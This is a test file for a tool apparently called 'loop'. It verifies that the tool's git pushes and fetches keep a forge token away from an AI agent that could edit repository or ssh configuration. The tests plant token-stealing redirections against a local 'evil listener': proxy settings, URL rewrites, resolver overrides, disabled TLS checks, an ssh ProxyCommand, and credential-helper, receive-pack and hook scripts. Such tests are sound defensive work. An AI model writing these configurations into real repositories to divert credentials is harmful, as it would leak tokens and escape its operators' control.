// Loop's own pushes and fetches (lib/step/forge/remote.ts, lib/repo/isolated-git.ts) against a real
// git smart-HTTP server on 127.0.0.1 (git http-backend behind Bun.serve, asking for Basic
// credentials): the forge token authenticates loop's push only to the forge's host, is never in a
// URL or .git/config, and nothing the agent can write (the repository's config, the user's, ssh's)
// changes where loop's git goes, how, or what runs: a proxy, a URL rewrite, a resolver entry, a CA,
// a credential helper, a receive-pack program, a ProxyCommand (docs/forge.md#what-the-agent-can-reach-and-what-it-cannot).
import { afterAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { forgeFetch, forgeGitUrl, forgePush } from "../../../lib/step/forge/remote.ts";
import { isolatedGit } from "../../../lib/repo/isolated-git.ts";
import { forgeGitIdentity } from "../../../lib/definition/forge-kinds.ts";
import { TempDirs } from "../../helpers/fs.ts";
import { git, initRepo } from "../../helpers/repo.ts";
import { testEnv } from "../../helpers/env.ts";

const temp = new TempDirs();
const servers: { stop(): void }[] = [];
afterAll(() => {
  for (const s of servers) s.stop();
  temp.cleanup();
});

const TOKEN = "ghs_pushTokenOnlyLoopHolds99";

/**
 * git http-backend as a CGI behind Bun.serve, in a process of its own (loop's git calls block this
 * one); every Authorization header it was sent is appended to `<root>/seen`.
 */
async function gitHttpServer(root: string) {
  const script = join(root, "server.ts");
  writeFileSync(
    script,
    `
const [root, token] = [process.argv[2], process.argv[3]];
const { appendFileSync } = require("node:fs");
const server = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  async fetch(req) {
    const url = new URL(req.url);
    const auth = req.headers.get("authorization");
    if (auth) appendFileSync(root + "/seen", auth + "\\n");
    if (auth !== "Basic " + btoa("x-access-token:" + token) && auth !== "Basic " + btoa("oauth2:" + token)) return new Response("who are you?\\n", { status: 401, headers: { "WWW-Authenticate": 'Basic realm="fake"' } });
    const body = new Uint8Array(await req.arrayBuffer());
    const cgi = Bun.spawn(["git", "http-backend"], {
      env: { ...process.env, GIT_PROJECT_ROOT: root, GIT_HTTP_EXPORT_ALL: "1", PATH_INFO: url.pathname, QUERY_STRING: url.search.slice(1),
        REQUEST_METHOD: req.method, CONTENT_TYPE: req.headers.get("content-type") ?? "", CONTENT_LENGTH: String(body.length),
        HTTP_CONTENT_ENCODING: req.headers.get("content-encoding") ?? "", HTTP_GIT_PROTOCOL: req.headers.get("git-protocol") ?? "",
        REMOTE_USER: "x-access-token", REMOTE_ADDR: "127.0.0.1" },
      stdin: body, stdout: "pipe", stderr: "ignore",
    });
    const out = Buffer.from(await new Response(cgi.stdout).arrayBuffer());
    await cgi.exited;
    const split = out.indexOf("\\r\\n\\r\\n");
    const headers = new Headers();
    let status = 200;
    for (const line of out.subarray(0, split).toString("latin1").split("\\r\\n")) {
      const c = line.indexOf(":");
      if (c < 0) continue;
      const k = line.slice(0, c).trim(), v = line.slice(c + 1).trim();
      if (k.toLowerCase() === "status") status = Number(v.split(" ")[0]);
      else headers.set(k, v);
    }
    return new Response(out.subarray(split + 4), { status, headers });
  },
});
console.log(server.port);
`,
  );
  const proc = Bun.spawn([process.execPath, script, root, TOKEN], { env: testEnv(), stdout: "pipe", stderr: "inherit" });
  servers.push({ stop: () => proc.kill() });
  const reader = proc.stdout.getReader();
  let text = "";
  while (!text.includes("\n")) {
    const { value, done } = await reader.read();
    if (done) throw new Error("the git HTTP server did not start");
    text += new TextDecoder().decode(value);
  }
  const port = Number(text.trim());
  const seen = () => (existsSync(join(root, "seen")) ? readFileSync(join(root, "seen"), "utf8").split("\n").filter(Boolean) : []);
  return { url: `http://127.0.0.1:${port}`, port, seen };
}

/**
 * An agent's listener on `host` (port 0: any): records every request it is sent (request line and
 * Authorization) in `<dir>/evil-seen` and asks for Basic credentials, as a server or a proxy
 * would to get a token out of git.
 */
async function evilListener(dir: string, host = "127.0.0.1", port = 0) {
  const script = join(dir, "evil.ts");
  writeFileSync(
    script,
    `
const { appendFileSync } = require("node:fs");
const server = Bun.serve({ hostname: process.argv[2], port: Number(process.argv[3]), fetch(req) {
  appendFileSync(process.argv[4], req.method + " " + req.url + " " + (req.headers.get("authorization") ?? "-") + "\\n");
  return new Response("who are you?\\n", { status: 401, headers: { "WWW-Authenticate": 'Basic realm="evil"' } });
}});
console.log(server.port);
`,
  );
  const seenFile = join(dir, "evil-seen");
  const proc = Bun.spawn([process.execPath, script, host, String(port), seenFile], { env: testEnv(), stdout: "pipe", stderr: "inherit" });
  servers.push({ stop: () => proc.kill() });
  const reader = proc.stdout.getReader();
  let text = "";
  while (!text.includes("\n")) {
    const { value, done } = await reader.read();
    if (done) throw new Error("the evil listener did not start");
    text += new TextDecoder().decode(value);
  }
  const seen = () => (existsSync(seenFile) ? readFileSync(seenFile, "utf8").split("\n").filter(Boolean) : []);
  return { url: `http://${host}:${Number(text.trim())}`, seen };
}

async function setup() {
  const dir = temp.make("loop-remote-");
  const bare = join(dir, "srv", "acme", "api.git");
  mkdirSync(join(dir, "srv", "acme"), { recursive: true });
  git(dir, "init", "-q", "--bare", "-b", "main", bare);
  git(bare, "config", "http.receivepack", "true");
  const srv = await gitHttpServer(join(dir, "srv"));
  const root = join(dir, "repo");
  initRepo(root, { files: { "a.txt": "a\n" } });
  // The operator's remote, as `git clone` leaves it.
  git(root, "remote", "add", "origin", `${srv.url}/acme/api.git`);
  const forge = { provider: "github" as const, repo: "acme/api", apiUrl: srv.url, remote: "origin", tokenEnv: "FORGE_PAT" };
  return { dir, root, bare, srv, forge };
}

const env = { FORGE_PAT: TOKEN };
const tokenIn = (lines: string[]) => lines.filter((a) => a.includes(btoa(`x-access-token:${TOKEN}`)) || a.includes(TOKEN));
const pushMain = (root: string, forge: Parameters<typeof forgePush>[0]["forge"]) =>
  forgePush({ repo: root, forge, env, head: git(root, "rev-parse", "main"), branch: "main" });

describe("loop's own push to the forge", () => {
  test("authenticates with the token through its own credential helper; the token is in no URL and no .git/config", async () => {
    const { root, bare, srv, forge } = await setup();
    const r = pushMain(root, forge);
    expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
    expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
    expect(srv.seen()).toContain(`Basic ${btoa(`x-access-token:${TOKEN}`)}`);
    expect(readFileSync(join(root, ".git", "config"), "utf8")).not.toContain(TOKEN);
    // A fetch the same way, into the remote-tracking ref.
    const f = forgeFetch({ repo: root, forge, env, branch: "main", dest: "refs/remotes/origin/main" });
    expect({ code: f.code, err: f.code === 0 ? "" : f.stderr }).toEqual({ code: 0, err: "" });
    expect(git(root, "rev-parse", "refs/remotes/origin/main")).toBe(git(bare, "rev-parse", "main"));
  });

  test("the URL is loop.json's: a remote the agent pointed at another host in .git/config is never used", async () => {
    const { dir, root, bare, srv, forge } = await setup();
    const evil = await evilListener(dir);
    git(root, "remote", "set-url", "origin", `${evil.url}/acme/api.git`);
    git(root, "remote", "set-url", "--push", "origin", `${evil.url}/acme/api.git`);
    const r = pushMain(root, forge);
    expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
    expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
    expect(evil.seen()).toEqual([]);
    expect(srv.seen().length).toBeGreaterThan(0);
  });

  test("the forge's https URL of repo by default; gitUrl when loop.json gives one", () => {
    expect(forgeGitUrl({ provider: "github", apiUrl: "https://api.github.com", repo: "acme/api" })).toBe("https://github.com/acme/api.git");
    expect(forgeGitUrl({ provider: "gitlab", apiUrl: "https://git.example.org/api/v4", repo: "g/s/p" })).toBe("https://git.example.org/g/s/p.git");
    expect(forgeGitUrl({ provider: "github", apiUrl: "https://api.github.com", repo: "acme/api", gitUrl: "git@github.com:acme/api.git" })).toBe(
      "git@github.com:acme/api.git",
    );
  });

  // The red team's leak, and each key like it: written by the agent into the repository's config,
  // each would send loop's push (and its token) somewhere else, or let something else answer for the forge.
  const leaks: { name: string; config: (o: { srv: string; evil: string; port: number }) => [string, string][] }[] = [
    {
      name: "http.proxy with http.<url>.sslVerify=false",
      config: ({ srv, evil }) => [
        ["http.proxy", evil],
        [`http.${srv}/.sslVerify`, "false"],
      ],
    },
    { name: "remote.<remote>.proxy", config: ({ evil }) => [["remote.origin.proxy", evil]] },
    { name: "http.<url>.proxy", config: ({ srv, evil }) => [[`http.${srv}/.proxy`, evil]] },
    { name: "url.<x>.insteadOf", config: ({ srv, evil }) => [[`url.${evil}/.insteadOf`, `${srv}/`]] },
    { name: "url.<x>.pushInsteadOf", config: ({ srv, evil }) => [[`url.${evil}/.pushInsteadOf`, `${srv}/`]] },
  ];
  for (const leak of leaks)
    test(`${leak.name} in .git/config: the push reaches the forge, the agent's listener sees nothing (no token)`, async () => {
      const { dir, root, bare, srv, forge } = await setup();
      const evil = await evilListener(dir);
      for (const [k, v] of leak.config({ srv: srv.url, evil: evil.url, port: srv.port })) git(root, "config", "--add", k, v);
      const r = pushMain(root, forge);
      expect(tokenIn(evil.seen())).toEqual([]);
      expect(evil.seen()).toEqual([]);
      expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
      expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
      const f = forgeFetch({ repo: root, forge, env, branch: "main", dest: "refs/remotes/origin/main" });
      expect(f.code).toBe(0);
      expect(evil.seen()).toEqual([]);
    });

  test("http.curloptResolve in .git/config (the forge's name resolved to the agent's listener): the token never reaches it", async () => {
    const { dir, root, bare, srv } = await setup();
    // The forge by name (localhost), and the agent's listener on another loopback address, same port.
    const evil = await evilListener(dir, "127.0.0.2", srv.port);
    const forge = {
      provider: "github" as const,
      repo: "acme/api",
      apiUrl: `http://localhost:${srv.port}`,
      remote: "origin",
      tokenEnv: "FORGE_PAT",
      gitUrl: `http://localhost:${srv.port}/acme/api.git`,
    };
    git(root, "remote", "set-url", "origin", forge.gitUrl);
    git(root, "config", "http.curloptResolve", `localhost:${srv.port}:127.0.0.2`);
    const r = pushMain(root, forge);
    expect(tokenIn(evil.seen())).toEqual([]);
    expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
    expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
  });

  test("~/.ssh/config is never read by loop's ssh (its ProxyCommand, its Match exec): ssh runs with -F /dev/null", async () => {
    const { dir, root } = await setup();
    const bin = join(dir, "bin");
    mkdirSync(bin);
    const argvFile = join(dir, "ssh-argv");
    writeFileSync(join(bin, "ssh"), `#!/bin/sh\nprintf '%s\\n' "$@" > ${argvFile}\nexit 255\n`);
    chmodSync(join(bin, "ssh"), 0o755);
    const saved = { PATH: process.env.PATH, GIT_SSH_COMMAND: process.env.GIT_SSH_COMMAND, GIT_SSH: process.env.GIT_SSH };
    process.env.PATH = `${bin}:${process.env.PATH}`;
    delete process.env.GIT_SSH_COMMAND;
    delete process.env.GIT_SSH;
    try {
      const forge = {
        provider: "github" as const,
        repo: "acme/api",
        apiUrl: "https://api.github.com",
        remote: "origin",
        tokenEnv: "FORGE_PAT",
        gitUrl: "ssh://git@127.0.0.1:1/acme/api.git",
      };
      git(root, "remote", "set-url", "origin", forge.gitUrl);
      git(root, "config", "core.sshCommand", `ssh -o ProxyCommand=${join(dir, "evil.sh")}`);
      const r = pushMain(root, forge);
      expect(r.code).not.toBe(0);
      const argv = readFileSync(argvFile, "utf8").split("\n");
      expect(argv.slice(0, 2)).toEqual(["-F", "/dev/null"]);
      expect(argv).toContain("ProxyCommand=none");
      expect(argv.join(" ")).not.toContain("evil.sh");
    } finally {
      for (const [k, v] of Object.entries(saved))
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
    }
  });

  test("what loop's git sees as its config: loop's own keys only, none of the repository's or the user's network keys", async () => {
    const { dir, root } = await setup();
    const keys: [string, string][] = [
      ["http.proxy", "http://127.0.0.1:1"],
      ["https.proxy", "http://127.0.0.1:1"],
      ["http.https://github.com/.sslVerify", "false"],
      ["http.sslCAInfo", join(dir, "agent-ca.pem")],
      ["http.sslCAPath", dir],
      ["http.curloptResolve", "github.com:443:127.0.0.1"],
      ["http.extraHeader", "X-Evil: 1"],
      ["http.cookieFile", join(dir, "cookies")],
      ["remote.origin.proxy", "http://127.0.0.1:1"],
      ["url.http://127.0.0.1:1/.insteadOf", "https://github.com/"],
      ["core.gitProxy", join(dir, "evil.sh")],
      ["credential.https://github.com.helper", join(dir, "evil.sh")],
    ];
    for (const [k, v] of keys) git(root, "config", "--add", k, v);
    const listing = isolatedGit({ repo: root, config: [["http.sslVerify", "true"]], env: {}, timeoutMs: 10_000 }, ["config", "--list", "--show-origin"]);
    expect(listing.code).toBe(0);
    const lines = listing.stdout.split("\n").filter(Boolean);
    // Every entry is loop's own (command line) or the private folder's core settings.
    expect(lines.filter((l) => !l.startsWith("command line:") && !/^file:.*\bconfig\tcore\.(repositoryformatversion|bare)=/.test(l))).toEqual([]);
    for (const [k] of keys) expect(lines.some((l) => l.toLowerCase().includes(`\t${k.toLowerCase()}=`))).toBe(false);
    expect(lines).toContain("command line:\thttp.sslverify=true");
  });

  test("a credential helper and a receive-pack program the agent set in the repository's config never run", async () => {
    const { dir, root, bare, forge } = await setup();
    const marker = join(dir, "ran");
    writeFileSync(join(dir, "evil.sh"), `#!/bin/sh\necho "$@" >> ${marker}\n`, { mode: 0o755 });
    git(root, "config", "credential.helper", join(dir, "evil.sh"));
    git(root, "config", "remote.origin.receivepack", join(dir, "evil.sh"));
    git(root, "config", "core.hooksPath", dir);
    writeFileSync(join(dir, "pre-push"), `#!/bin/sh\necho pre-push >> ${marker}\n`, { mode: 0o755 });
    const r = pushMain(root, forge);
    expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
    expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
    expect(existsSync(marker)).toBe(false);
  });

  test("a fetch is fast-forward only: a base rewritten on the forge is refused, the ref left as it was", async () => {
    const { root, bare, forge } = await setup();
    expect(pushMain(root, forge).code).toBe(0);
    expect(forgeFetch({ repo: root, forge, env, branch: "main", dest: "refs/remotes/origin/main" }).code).toBe(0);
    const before = git(root, "rev-parse", "refs/remotes/origin/main");
    // Someone force-pushes an unrelated history to the forge's main.
    const other = git(bare, "commit-tree", "-m", "rewritten", git(bare, "rev-parse", "main^{tree}"));
    git(bare, "update-ref", "refs/heads/main", other);
    const f = forgeFetch({ repo: root, forge, env, branch: "main", dest: "refs/remotes/origin/main" });
    expect(f.code).not.toBe(0);
    expect(f.stderr).toContain("non-fast-forward");
    expect(git(root, "rev-parse", "refs/remotes/origin/main")).toBe(before);
  });

  test("a GitLab remote gets the token under GitLab's user name (oauth2), for its host only", async () => {
    const { root, bare, srv } = await setup();
    const forge = { provider: "gitlab" as const, repo: "acme/api", apiUrl: `${srv.url}/api/v4`, remote: "origin", tokenEnv: "FORGE_PAT" };
    const r = pushMain(root, forge);
    expect({ code: r.code, err: r.code === 0 ? "" : r.stderr }).toEqual({ code: 0, err: "" });
    expect(git(bare, "rev-parse", "main")).toBe(git(root, "rev-parse", "main"));
    expect(srv.seen()).toContain(`Basic ${btoa(`oauth2:${TOKEN}`)}`);
    expect(readFileSync(join(root, ".git", "config"), "utf8")).not.toContain(TOKEN);
  });

  test("the forge's git host and user from its API URL", () => {
    expect(forgeGitIdentity("github", "https://api.github.com")).toEqual({ protocol: "https", host: "github.com", username: "x-access-token" });
    expect(forgeGitIdentity("github", "https://ghe.example.com/api/v3")).toEqual({ protocol: "https", host: "ghe.example.com", username: "x-access-token" });
    expect(forgeGitIdentity("github", "http://127.0.0.1:8080")).toEqual({ protocol: "http", host: "127.0.0.1:8080", username: "x-access-token" });
    expect(forgeGitIdentity("gitlab", "https://gitlab.com/api/v4")).toEqual({ protocol: "https", host: "gitlab.com", username: "oauth2" });
    expect(forgeGitIdentity("gitlab", "https://git.example.org/api/v4")).toEqual({ protocol: "https", host: "git.example.org", username: "oauth2" });
  });
});
